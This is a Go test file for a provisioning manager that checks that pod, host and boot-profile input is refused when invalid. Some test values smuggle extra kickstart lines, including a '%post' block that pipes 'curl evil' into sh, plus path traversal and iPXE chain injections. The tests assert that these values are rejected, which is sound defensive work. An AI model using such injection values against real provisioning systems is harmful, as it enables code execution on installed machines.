package podmgr

import (
	"context"
	"errors"
	"slices"
	"strings"
	"testing"
)

// TestPodInputRules: a careless operator's pod is refused with the reason, and nothing
// is stored (issue 10: lease overflow, /0 and /32 subnets, non-text match values,
// kickstart values that could inject a line).
func TestPodInputRules(t *testing.T) {
	m, _ := newTestManager(t)
	seed(t, m)
	ctx := context.Background()
	mod := func(f func(*Pod)) Pod { p := testPod("pod-x", "203.0.113.1"); f(&p); return p }
	cases := []struct {
		name string
		pod  Pod
		want string // "" for accepted
	}{
		{"lease 2^32-2", mod(func(p *Pod) { p.Subnets[0].LeaseSeconds = MaxLeaseSeconds }), ""},
		{"lease 1", mod(func(p *Pod) { p.Subnets[0].LeaseSeconds = 1 }), ""},
		{"lease 2^32-1", mod(func(p *Pod) { p.Subnets[0].LeaseSeconds = MaxLeaseSeconds + 1 }), "use 1 to 4294967294 seconds"},
		{"lease 2^32", mod(func(p *Pod) { p.Subnets[0].LeaseSeconds = 1 << 32 }), "use 1 to 4294967294 seconds"},
		{"lease overflows Duration", mod(func(p *Pod) { p.Subnets[0].LeaseSeconds = 9300000000 }), "use 1 to 4294967294 seconds"},
		{"lease negative", mod(func(p *Pod) { p.Subnets[0].LeaseSeconds = -1 }), "negative"},
		{"subnet /0", mod(func(p *Pod) { p.Subnets[0] = Subnet{CIDR: "0.0.0.0/0"} }), "must be /1 to /31"},
		{"subnet /32", mod(func(p *Pod) { p.Subnets[0] = Subnet{CIDR: "192.0.2.9/32"} }), "must be /1 to /31"},
		{"subnet /31", mod(func(p *Pod) { p.Subnets[0] = Subnet{CIDR: "192.0.2.8/31"} }), ""},
		{"circuit-id invalid UTF-8", mod(func(p *Pod) { p.Match[0].CircuitID = "eth\xff1" }), `"hex:657468ff31"`},
		{"circuit-id U+FFFD from JSON", mod(func(p *Pod) { p.Match[0].CircuitID = "eth\ufffd1" }), "hex:"},
		{"remote-id control byte", mod(func(p *Pod) { p.Match[0].RemoteID = "sw1\x00" }), "hex:"},
		{"remote-id hex form", mod(func(p *Pod) { p.Match[0].RemoteID = "hex:ff00" }), ""},
		{"circuit-id text", mod(func(p *Pod) { p.Match[0].CircuitID = "Ethernet1/7 ü" }), ""},
		{"ssh key with newline", mod(func(p *Pod) { p.Kickstart.SSHKeys = []string{"ssh-ed25519 AAAA x\n%post\ncurl evil|sh\n%end"} }), "not one OpenSSH public key line"},
		{"ssh key with quote", mod(func(p *Pod) { p.Kickstart.SSHKeys = []string{`ssh-ed25519 AAAA x" --username=evil`} }), "not one OpenSSH public key line"},
		{"ssh key plain text", mod(func(p *Pod) { p.Kickstart.SSHKeys = []string{"hello"} }), "not one OpenSSH public key line"},
		{"ssh key ok", mod(func(p *Pod) {
			p.Kickstart.SSHKeys = []string{"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@example"}
		}), ""},
		{"password hash with newline", mod(func(p *Pod) { p.Kickstart.RootPasswordHash = "$6$s$h\n%post\nid\n%end" }), "not a crypt(3) hash"},
		{"plain password", mod(func(p *Pod) { p.Kickstart.RootPasswordHash = "hunter2" }), "not a crypt(3) hash"},
		{"password hash ok", mod(func(p *Pod) { p.Kickstart.RootPasswordHash = "$6$rounds=5000$salt$abc./XYZ" }), ""},
		{"target disk with newline", mod(func(p *Pod) { p.Kickstart.TargetDisk = "vda\n%post\nid\n%end" }), "give one device name"},
		{"target disk two disks", mod(func(p *Pod) { p.Kickstart.TargetDisk = "sda,sdb" }), "give one device name"},
		{"target disk traversal", mod(func(p *Pod) { p.Kickstart.TargetDisk = "/dev/../etc/passwd" }), "give one device name"},
		{"target disk by-id", mod(func(p *Pod) { p.Kickstart.TargetDisk = "/dev/disk/by-id/nvme-Samsung_SSD_1" }), ""},
		{"management domain with newline", mod(func(p *Pod) { p.Management.Domain = "example.com\n%post" }), "not a valid DNS domain"},
		{"subnet domain with space", mod(func(p *Pod) { p.Subnets[0].Domain = "a b" }), "not a valid DNS domain"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			defer m.DeletePod(ctx, admin, tc.pod.Name, true)
			_, err := m.CreatePod(ctx, admin, tc.pod)
			if tc.want == "" {
				if err != nil {
					t.Fatalf("want success, got %v", err)
				}
				return
			}
			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("want ErrInvalid saying %q, got %v", tc.want, err)
			}
			if _, ok := m.Registry().Pod(tc.pod.Name); ok {
				t.Fatalf("refused pod %s is in the registry", tc.pod.Name)
			}
		})
	}
}

// TestHostInputRules: reservations on addresses no host may have, MACs no NIC has,
// and a second host with a pod's hostname or management address are refused.
func TestHostInputRules(t *testing.T) {
	m, _ := newTestManager(t)
	seed(t, m)
	ctx := context.Background()
	p := testPod("pod-m", "203.0.113.1")
	p.Match = append(p.Match, MatchRule{Giaddr: "192.0.2.2"})
	p.Subnets = []Subnet{{CIDR: "192.0.2.0/24", Gateway: "192.0.2.254"}, {CIDR: "198.51.100.0/24"}}
	p.ServerAddress = "198.51.100.10"
	p.Management = ManagementNet{CIDR: "203.0.113.0/24"}
	if _, err := m.CreatePod(ctx, admin, p); err != nil {
		t.Fatal(err)
	}
	if _, err := m.AddHosts(ctx, admin, []Host{{MAC: "52:54:00:00:01:01", Pod: "pod-m", Hostname: "node1", ManagementIP: "203.0.113.11"}}); err != nil {
		t.Fatal(err)
	}
	h := func(mac, ip string) Host { return Host{MAC: mac, Pod: "pod-m", ProvisioningIP: ip} }
	cases := []struct {
		name  string
		hosts []Host
		want  string
		err   error
	}{
		{"network address", []Host{h("52:54:00:00:02:01", "192.0.2.0")}, "the network address of 192.0.2.0/24", ErrInvalid},
		{"broadcast address", []Host{h("52:54:00:00:02:01", "192.0.2.255")}, "the broadcast address of 192.0.2.0/24", ErrInvalid},
		{"gateway", []Host{h("52:54:00:00:02:01", "192.0.2.254")}, "the gateway of 192.0.2.0/24", ErrInvalid},
		{"giaddr", []Host{h("52:54:00:00:02:01", "192.0.2.2")}, "a relay address (giaddr match rule)", ErrInvalid},
		{"second subnet broadcast", []Host{h("52:54:00:00:02:01", "198.51.100.255")}, "broadcast address of 198.51.100.0/24", ErrInvalid},
		{"ordinary address", []Host{h("52:54:00:00:02:01", "192.0.2.50")}, "", nil},
		{"multicast MAC", []Host{h("01:00:5e:00:00:01", "")}, "multicast", ErrInvalid},
		{"broadcast MAC", []Host{h("ff:ff:ff:ff:ff:ff", "")}, "broadcast address", ErrInvalid},
		{"zero MAC", []Host{h("00:00:00:00:00:00", "")}, "all zeros", ErrInvalid},
		{"hostname taken", []Host{{MAC: "52:54:00:00:02:02", Pod: "pod-m", Hostname: "NODE1"}}, "hostname NODE1 in pod pod-m is already host 52:54:00:00:01:01's", ErrConflict},
		{"mgmt IP taken", []Host{{MAC: "52:54:00:00:02:02", Pod: "pod-m", ManagementIP: "203.0.113.11"}}, "managementIp 203.0.113.11", ErrConflict},
		{"hostname twice in a batch", []Host{{MAC: "52:54:00:00:02:02", Pod: "pod-m", Hostname: "n2"}, {MAC: "52:54:00:00:02:03", Pod: "pod-m", Hostname: "n2"}}, "host 2 of 2", ErrConflict},
		{"mgmt IP twice in a batch", []Host{{MAC: "52:54:00:00:02:02", Pod: "pod-m", ManagementIP: "203.0.113.12"}, {MAC: "52:54:00:00:02:03", Pod: "pod-m", ManagementIP: "203.0.113.12"}}, "host 2 of 2", ErrConflict},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			before := m.Registry().HostCount("pod-m")
			_, err := m.AddHosts(ctx, admin, tc.hosts)
			if tc.err == nil {
				if err != nil {
					t.Fatal(err)
				}
				for _, h := range tc.hosts {
					m.DeleteHost(ctx, admin, h.MAC)
				}
				return
			}
			if !errors.Is(err, tc.err) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("want %v saying %q, got %v", tc.err, tc.want, err)
			}
			if n := m.Registry().HostCount("pod-m"); n != before {
				t.Fatalf("%d hosts after a refused add; want %d", n, before)
			}
		})
	}
	// A pod change that moves the gateway onto a reservation is refused too.
	if _, err := m.AddHosts(ctx, admin, []Host{h("52:54:00:00:03:01", "192.0.2.60")}); err != nil {
		t.Fatal(err)
	}
	p.Subnets = slices.Clone(p.Subnets) // the registry holds the created pod's slice
	p.Subnets[0].Gateway = "192.0.2.60"
	if _, _, err := m.ApplyPod(ctx, admin, p); !errors.Is(err, ErrConflict) || !strings.Contains(err.Error(), "gateway") {
		t.Fatalf("gateway moved onto a reservation: %v", err)
	}
}

// TestProfileOneLineFields: a line break in a field rendered into one iPXE script line
// (kernel arguments, artifact references) is refused.
func TestProfileOneLineFields(t *testing.T) {
	m, _ := newTestManager(t)
	ctx := context.Background()
	for _, p := range []Profile{
		{Name: "p1", KernelArgs: "console=ttyS0\nshell"},
		{Name: "p2", Kernel: "vmlinuz\nchain http://192.0.2.66/x"},
		{Name: "p3", Stage2: "os@1\r"},
	} {
		if _, _, err := m.ApplyProfile(ctx, admin, p, true); !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "must be one line") {
			t.Fatalf("%+v: %v", p, err)
		}
	}
	if _, _, err := m.ApplyProfile(ctx, admin, Profile{Name: "ok", KernelArgs: "console=ttyS0 panic=-1", Kickstart: "text\nreboot\n"}, true); err != nil {
		t.Fatal(err)
	}
}

// TestProfileArtifactRefSyntax: each artifact reference of a profile must read name or
// name@version; the refusal names the field.
func TestProfileArtifactRefSyntax(t *testing.T) {
	m, _ := newTestManager(t)
	ctx := context.Background()
	for _, tc := range []struct {
		p     Profile
		field string // "" saves
	}{
		{Profile{Name: "ok", Kernel: "vmlinuz", Initrd: "initrd.img@1", Stage2: "os@2.1", BashPackage: "scripts@1+b", SecureBoot: SecureBootFull, UKI: "stage1.efi@3"}, ""},
		{Profile{Name: "k", Kernel: "vmlinuz:1"}, "kernel"},
		{Profile{Name: "i", Initrd: "@1"}, "initrd"},
		{Profile{Name: "s", Stage2: "os@"}, "stage2"},
		{Profile{Name: "b", BashPackage: "a/b"}, "bashPackage"},
		{Profile{Name: "u", SecureBoot: SecureBootFull, UKI: "uki@1@2"}, "uki"},
		{Profile{Name: "d", Stage2: "os@..1"}, "stage2"},
	} {
		_, _, err := m.ApplyProfile(ctx, admin, tc.p, true)
		if tc.field == "" {
			if err != nil {
				t.Errorf("%s: %v", tc.p.Name, err)
			}
			continue
		}
		if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tc.field+" \"") || !strings.Contains(err.Error(), "is not an artifact reference") {
			t.Errorf("%s: %v, want an invalid %s reference", tc.p.Name, err, tc.field)
		}
	}
}
